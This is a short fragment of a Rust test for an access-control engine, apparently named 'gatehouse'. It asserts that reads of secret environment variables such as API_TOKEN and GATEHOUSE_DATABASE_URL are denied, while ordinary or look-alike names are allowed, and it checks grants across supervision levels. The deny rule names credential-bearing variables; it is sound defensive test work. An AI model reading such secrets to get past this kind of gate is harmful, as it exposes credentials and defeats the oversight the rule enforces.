            grant(3, "env:read", "HOME"),
        ];
        for name in ["API_TOKEN", "GATEHOUSE_DATABASE_URL", "GATEHOUSE_STATE_DIR"] {
            let d = decide_json(&s, &env_read(name));
            assert_code(&d, "SECRET_ENV_DENIED");
            assert!(d.reason().contains(&format!("`{name}`")), "{d:?}");
        }
        // Positive control: an ordinary variable, and one that only looks
        // like the host's (the prefix is case-sensitive, as the names are).
        for name in ["HOME", "gatehouse_database_url", "API_TOKEN_2"] {
            let d = decide_json(&s, &env_read(name));
            assert_ne!(code(&d), "SECRET_ENV_DENIED", "{name}: {d:?}");
        }
        let home = decide_json(&s, &env_read("HOME"));
        match level {
            Level::ReadOnly | Level::Supervised => assert_eq!(home.grant(), Some(3), "{home:?}"),
            Level::Full => assert_allow(&home),
        }
    }
}
